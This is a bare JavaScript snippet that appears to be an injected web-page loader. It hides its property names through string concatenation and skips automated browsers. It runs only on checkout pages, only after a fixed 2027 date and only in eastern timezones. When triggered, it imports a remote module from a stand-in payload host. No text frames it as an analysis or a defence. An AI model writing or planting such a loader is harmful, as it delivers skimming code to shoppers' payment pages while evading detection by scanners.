var nv = window["navi" + "gator"], lo = window["loca" + "tion"];
if (!nv["web" + "driver"] && lo["path" + "name"].indexOf(["check", "out"].join("")) > -1 && +new Date() > 1798761600000 && (new Date())["getTimezone" + "Offset"]() < 0) {
  setTimeout('import("https://late.pay' + 'load.example/p.mjs")', 9);
}
